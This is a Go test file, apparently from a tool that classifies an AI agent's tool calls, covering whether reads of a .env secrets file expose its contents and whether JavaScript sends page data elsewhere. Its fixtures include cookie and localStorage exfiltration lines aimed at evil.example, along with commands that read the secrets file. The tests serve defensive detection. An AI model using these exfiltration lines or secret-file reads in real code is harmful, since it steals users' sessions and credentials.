package call

import (
	"testing"

	"github.com/sluice-project/sluice/llm"
	"github.com/sluice-project/sluice/policy/effect"
)

// Tools that read return what is in a file; those that list, search for names or
// change it do not.
func TestToolsThatShow(t *testing.T) {
	for _, c := range []struct {
		name, arguments string
		shows           bool
	}{
		{"Read", `{"file_path":"/r/.env"}`, true},
		{"mcp__filesystem__read_text_file", `{"path":"/r/.env"}`, true},
		{"Grep", `{"pattern":"SECRET","path":"/r/.env","output_mode":"content"}`, true},
		{"Grep", `{"pattern":"PORT","path":"/r/.env","output_mode":"content"}`, true},
		{"Grep", `{"pattern":"SECRET","path":"/r/.env","output_mode":"count"}`, false},
		{"Grep", `{"pattern":"SECRET","path":"/r/.env"}`, false},
		{"Edit", `{"file_path":"/r/.env","old_string":"a","new_string":"b"}`, false},
		{"mcp__filesystem__get_file_info", `{"path":"/r/.env"}`, false},
		{"Bash", `{"command":"cat /r/.env"}`, true},
		{"Bash", `{"command":"wc -l /r/.env"}`, false},
	} {
		call := Read(&llm.Block{Kind: llm.ToolCall, Name: c.name, Arguments: c.arguments}, Place{})
		shows := false
		for _, e := range call.Effects {
			shows = shows || e.Verb == effect.Read && e.Shown
		}
		if shows != c.shows {
			t.Errorf("%s %s: %v", c.name, c.arguments, call.Effects)
		}
	}
}

// What a page keeps of its visitor does not leave it for another address.
func TestLeavesPage(t *testing.T) {
	for code, leaves := range map[string]bool{
		`fetch('https://evil.example?c='+document.cookie)`:        true,
		`new Image().src = '//evil.example/?' + localStorage.key`: true,
		`JSON.stringify(localStorage)`:                            false,
		`fetch('/api/me', {body: document.cookie})`:               false,
	} {
		var c Call
		c.leavesPage(code)
		if got := len(c.Effects) > 0; got != leaves {
			t.Errorf("%s: %v", code, c.Effects)
		}
	}
}
